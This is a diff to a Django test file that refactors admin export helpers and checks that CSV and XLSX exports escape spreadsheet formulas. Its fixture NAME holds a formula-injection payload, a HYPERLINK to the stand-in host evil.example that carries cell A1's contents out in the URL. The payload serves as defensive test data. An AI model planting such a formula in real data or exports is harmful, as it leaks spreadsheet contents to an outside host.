@@ -14,12 +14,17 @@ EXPORT_URL = "/quan-tri/models_registry/collective/export/"
 NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
 
 
-def export(client, title):
-    form = client.get(EXPORT_URL).context["form"]
+def export(client, title, url=EXPORT_URL):
+    form = client.get(url).context["form"]
     formats = {label: value for value, label in form.fields["format"].choices}
-    # Every column ticked, as the admin's form has them by default.
-    columns = {name: "on" for name in form.fields if name.startswith("collectiveresource_")}
-    return client.post(EXPORT_URL, {"format": formats[title], "resource": "0", **columns})
+    # Every column ticked, as the admin's form has them by default: the check boxes are
+    # named "<resource>_<field>" ("collectiveresource_name").
+    columns = {name: "on" for name in form.fields if "resource_" in name}
+    return client.post(url, {"format": formats[title], "resource": "0", **columns})
+
+
+def csv_rows(response):
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
 
 
 def test_an_xlsx_export_writes_no_formula(admin_client):
@@ -102,12 +107,7 @@ def test_a_csv_export_of_the_helping_agencies_writes_no_formula(admin_client):
     from assistance.models import Agency, AgencyKind
 
     Agency.objects.create(name=NAME, kind=AgencyKind.MASS_ORGANISATION)
-    url = "/quan-tri/assistance/agency/export/"
-    form = admin_client.get(url).context["form"]
-    formats = {label: value for value, label in form.fields["format"].choices}
-    columns = {name: "on" for name in form.fields if name.startswith("agencyresource_")}
-    response = admin_client.post(url, {"format": formats["csv"], "resource": "0", **columns})
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    rows = csv_rows(export(admin_client, "csv", "/quan-tri/assistance/agency/export/"))
     assert [cell for row in rows for cell in row if "HYPERLINK" in cell] == ["'" + NAME]
 
 
@@ -117,12 +117,7 @@ def test_the_admins_exports_are_headed_in_vietnamese_and_import_back(admin_clien
     from models_registry.models import Field
 
     field = Field.objects.order_by("pk").first()
-    url = "/quan-tri/models_registry/field/export/"
-    form = admin_client.get(url).context["form"]
-    formats = {label: value for value, label in form.fields["format"].choices}
-    columns = {name: "on" for name in form.fields if name.startswith("fieldresource_")}
-    response = admin_client.post(url, {"format": formats["csv"], "resource": "0", **columns})
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    rows = csv_rows(export(admin_client, "csv", "/quan-tri/models_registry/field/export/"))
     header = rows[0]
     labels = {f.name: str(f.verbose_name) for f in Field._meta.fields}
     assert header[0] == "ID" and labels["name"].capitalize() in header, header
